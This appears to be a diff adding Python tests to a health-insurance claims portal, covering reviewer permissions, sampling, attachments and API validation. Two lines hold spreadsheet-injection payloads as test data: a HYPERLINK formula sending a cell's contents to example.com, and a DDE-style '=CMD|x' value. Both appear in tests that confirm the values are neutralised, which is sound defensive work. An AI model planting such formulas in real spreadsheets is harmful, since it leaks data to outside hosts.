@@ -358,6 +358,9 @@ class ClaimsPortalTestCase(ModuleTestCase):
         provider, web_user = setup_claims()
         claim = Claim.import_file(provider, 'claim.csv',
             claim_csv(good_and_bad_rows()[:2]), web_user=web_user)
+        # What a provider types stays text in the officer's spreadsheet
+        formula = '=HYPERLINK("http://example.com/?"&A1,"OK")'
+        Claim.write([claim], {'reference': formula})
         Claim.submit([claim])
         with self.assertRaises(UserError):
             claim.remittance_advice('xlsx')
@@ -379,9 +382,177 @@ class ClaimsPortalTestCase(ModuleTestCase):
         values = [c.value for row in sheet.rows for c in row]
         self.assertIn(claim.number, values)
         self.assertIn(40500, values)
+        reference, = [c for row in sheet.rows for c in row
+            if c.value == formula]
+        self.assertEqual(reference.data_type, 's')
         pdf = claim.remittance_advice('pdf')
         self.assertTrue(pdf.startswith(b'%PDF'))
         self.assertEqual(batch.remittance(provider, 'xlsx')[:2], b'PK')
+
+    @with_transaction()
+    def test_client_cannot_reopen_or_move_a_decided_claim(self):
+        """Through the client a reviewer writes only the note and the
+        decisions of a claim under review: the workflow sets the rest"""
+        pool = Pool()
+        Claim = pool.get('claim.claim')
+        Line = pool.get('claim.line')
+        Reason = pool.get('claim.reason')
+        User = pool.get('res.user')
+        ModelData = pool.get('ir.model.data')
+        open_books()
+        provider, web_user = setup_claims()
+        other, _ = setup_claims(code='H2', email='other@example.mn')
+        claim = Claim.import_file(provider, 'claim.csv',
+            claim_csv(good_and_bad_rows()[:3]), web_user=web_user)
+        Claim.submit([claim])
+        arkhangai = reviewer('arkhangai', 'SIGO-MN-073')
+        rejected = Reason.by_code()['R20']
+        pending = [l for l in claim.lines if l.decision == 'pending']
+        with acting_as(arkhangai):
+            for values in [{'state': 'approved'}, {'provider': other.id},
+                    {'office': other.office.id}, {'decided_at': None}]:
+                with self.assertRaises(AccessError):
+                    Claim.write([claim], values)
+            for values in [{'amount_asked': Decimal(1)}, {'sampled': False},
+                    {'amount_allowed': Decimal(10 ** 6)}]:
+                with self.assertRaises(AccessError):
+                    Line.write(pending, values)
+            Claim.write([claim], {'review_note': "Patient not insured."})
+            Line.write(pending, {
+                    'decision': 'rejected', 'decision_reason': rejected.id})
+            Claim.decide([claim])
+        self.assertEqual(claim.state, 'partially_approved')
+        move = claim.move
+        with acting_as(arkhangai):
+            with self.assertRaises(AccessError) as cm:
+                Claim.write([claim], {'state': 'under_review'})
+            self.assertIn(claim.number, cm.exception.message)
+            with self.assertRaises(AccessError):
+                Claim.write([claim], {'review_note': "Decided again."})
+            with self.assertRaises(AccessError) as cm:
+                Line.write(list(claim.lines), {'decision': 'approved'})
+            self.assertIn(claim.number, cm.exception.message)
+        claim = Claim(claim.id)
+        self.assertEqual(claim.state, 'partially_approved')
+        self.assertEqual(claim.move, move)
+        self.assertEqual(claim.review_note, "Patient not insured.")
+
+        admin, = User.create([{'login': 'claims.admin', 'name': "Admin",
+                    'offices': [('add', [office('SIGO-MN-073').id])],
+                    'groups': [('add', [ModelData.get_id(
+                                    'claims_portal', 'group_claims_admin')])],
+                    }])
+        with acting_as(admin), self.assertRaises(AccessError):
+            Claim.create([{'provider': provider.id, 'state': 'approved'}])
+
+    @with_transaction()
+    def test_sample_is_secret_and_kept(self):
+        """The sample is drawn with a secret of the claim, not its number,
+        and stays the same when the claim is checked again"""
+        pool = Pool()
+        Claim = pool.get('claim.claim')
+        Configuration = pool.get('claim.configuration')
+        config = Configuration(1)
+        config.sample_percent = 50
+        config.save()
+        provider, web_user = setup_claims()
+        day = SERVICE_DATE.isoformat()
+        claim = Claim.import_file(provider, 'claim.csv', claim_csv(
+                [[n, day, 'J18.9', 'S001', 1, 13500] for n in INSURED]),
+            web_user=web_user)
+        self.assertIsNone(claim.sample_seed)
+        Claim.submit([claim])
+        seed = claim.sample_seed
+        self.assertEqual(len(seed), 64)
+        sampled = [l.id for l in claim.lines if l.sampled]
+        self.assertEqual(len(sampled), 3)
+        claim.review_note = "Add the referral."
+        claim.save()
+        Claim.return_([claim])
+        Claim.submit([claim])
+        self.assertEqual(claim.sample_seed, seed)
+        self.assertEqual([l.id for l in claim.lines if l.sampled], sampled)
+
+    @with_transaction()
+    def test_copy_is_a_new_draft(self):
+        "A copy of a decided claim is a draft with undecided lines"
+        pool = Pool()
+        Claim = pool.get('claim.claim')
+        Line = pool.get('claim.line')
+        provider, web_user = setup_claims()
+        claim = Claim.import_file(provider, 'claim.csv',
+            claim_csv(good_and_bad_rows()[:2]), web_user=web_user,
+            channel='api')
+        Claim.submit([claim])
+        Line.approve([l for l in claim.lines if l.decision == 'pending'])
+        copy, = Claim.copy([claim])
+        self.assertEqual((copy.state, copy.channel, copy.web_user,
+                copy.sample_seed), ('draft', 'portal', None, None))
+        self.assertEqual([(l.decision, l.amount_approved, l.sampled,
+                    l.decided_by) for l in copy.lines],
+            [('pending', None, False, None)] * 2)
+        self.assertEqual([e.to_state for e in copy.events], ['draft'])
+
+    @with_transaction()
+    def test_each_approved_claim_keeps_its_note(self):
+        "Claims approved together each record their own note"
+        pool = Pool()
+        Claim = pool.get('claim.claim')
+        Line = pool.get('claim.line')
+        open_books()
+        provider, web_user = setup_claims()
+        claims = [Claim.import_file(provider, f'{n}.csv',
+                claim_csv(good_and_bad_rows()[n:n + 1]), web_user=web_user)
+            for n in range(2)]
+        Claim.submit(claims)
+        Line.approve([l for c in claims for l in c.lines])
+        for claim, note in zip(claims, ["First.", "Second."]):
+            claim.review_note = note
+            claim.save()
+        Claim.decide(claims)
+        self.assertEqual([(c.state, c.events[-1].note) for c in claims],
+            [('approved', "First."), ('approved', "Second.")])
+
+    @with_transaction(user=0)
+    def test_provider_sees_only_its_own_documents(self):
+        """A document the reviewer attaches to a claim is not on the portal
+        (which runs as root)"""
+        pool = Pool()
+        Claim = pool.get('claim.claim')
+        Attachment = pool.get('ir.attachment')
+        provider, web_user = setup_claims()
+        claim = Claim.import_file(provider, 'claim.csv',
+            claim_csv(good_and_bad_rows()[:2]), web_user=web_user)
+        referral = Claim.portal_add_attachment(web_user, claim.id,
+            'referral.pdf', b'%PDF-1.4')
+        with acting_as(reviewer('arkhangai', 'SIGO-MN-073')):
+            internal, = Attachment.create([{'name': 'audit-note.txt',
+                        'resource': str(claim), 'type': 'data',
+                        'data': b'Internal'}])
+        self.assertEqual(
+            [a.name for a in Claim.portal_attachments(web_user, claim.id)],
+            ['claim.csv', 'referral.pdf'])
+        self.assertEqual(
+            Claim.portal_attachment(web_user, claim.id, referral.id),
+            referral)
+        with self.assertRaises(NotFound):
+            Claim.portal_attachment(web_user, claim.id, internal.id)
+
+    @with_transaction()
+    def test_inactive_provider_has_no_claims(self):
+        "The portal users of a provider made inactive find no claims"
+        pool = Pool()
+        Claim = pool.get('claim.claim')
+        Provider = pool.get('claim.provider')
+        provider, web_user = setup_claims()
+        claim = Claim.import_file(provider, 'claim.csv',
+            claim_csv(good_and_bad_rows()[:2]), web_user=web_user)
+        Provider.write([provider], {'active': False})
+        self.assertEqual(Claim.portal_claims(web_user), [])
+        with self.assertRaises(NotFound):
+            Claim.portal_get(web_user, claim.id)
+        with self.assertRaises(NotFound):
+            Claim.portal_create(web_user, {'reference': 'LATE'})
 
     @with_transaction()
     def test_reviewer_of_another_office_sees_nothing(self):
@@ -414,9 +585,10 @@ class ClaimsPortalTestCase(ModuleTestCase):
             with self.assertRaises(AccessError):
                 Claim.search([])
 
-    @with_transaction()
+    @with_transaction(user=0)
     def test_other_providers_claim_not_found(self):
-        "A portal user asking for another provider's claim or line gets 404"
+        """A portal user asking for another provider's claim or line gets
+        404 (the portal runs as root)"""
         pool = Pool()
         Claim = pool.get('claim.claim')
         Line = pool.get('claim.line')
@@ -559,6 +731,23 @@ class ClaimsApiTestCase(RouteTestCase):
                         'item_code': 'S001', 'quantity': 0, 'amount': 1}]})
         self.assertEqual(response.status_code, 400)
         self.assertIn('Row 1', response.text)
+        # "false" is not false: a claim is submitted only when asked plainly
+        good_line = {'patient_register_number': INSURED[0],
+            'service_date': SERVICE_DATE.isoformat(), 'item_code': 'S001',
+            'quantity': 1, 'amount': 13500}
+        response = self.request('post', '', {'submit': 'false',
+                'lines': [good_line]})
+        self.assertEqual(response.status_code, 400)
+        self.assertEqual(self.request('get', '').json, [])
+        # A code no list has and a third decimal are refused with the row
+        response = self.request('post', '', {'lines': [
+                    dict(good_line, item_code='=CMD|x'),
+                    dict(good_line, amount='13500.005')]})
+        self.assertEqual(response.status_code, 400)
+        self.assertIn('Row 1: item code "=CMD|X"',
+            response.json['description'])
+        self.assertIn('Row 2: amount "13500.005"',
+            response.json['description'])
 
 
 del ModuleTestCase, RouteTestCase
